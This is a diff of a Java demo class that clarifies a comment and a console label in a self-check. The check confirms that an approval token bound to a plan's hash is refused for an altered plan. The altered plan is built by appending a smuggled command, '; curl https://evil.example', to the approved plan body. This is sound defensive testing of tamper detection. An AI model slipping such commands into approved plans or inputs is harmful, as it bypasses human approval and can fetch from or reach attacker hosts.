@@ -216,7 +216,10 @@ public final class Demo {
         }
     }
 
-    /** The token that approved the plan is bound to its hash: the same token for an altered plan is refused. */
+    /**
+     * A self-check the demo runs on its own data, not an attack from outside: the token that approved the plan is
+     * bound to its hash, so the same token presented for an altered plan is refused.
+     */
     private static void refuseAlteredPlan(ApprovalEngine approvals, SqliteStores stores, ConsoleCardChannel channel,
                                           @Nullable WorkItemResult result) {
         if (result == null) {
@@ -229,7 +232,7 @@ public final class Demo {
         }
         WorkItem altered = plan.toBuilder().body(plan.body() + "; curl https://evil.example").build();
         ApprovalCheck check = approvals.check(token, altered);
-        channel.note("[approval]", "the plan's token presented for an altered plan: "
+        channel.note("[self-check]", "the demo alters the approved plan itself and presents the same token: "
                 + (check.valid() ? "ACCEPTED" : check.reason() + " - refused"));
     }
 }
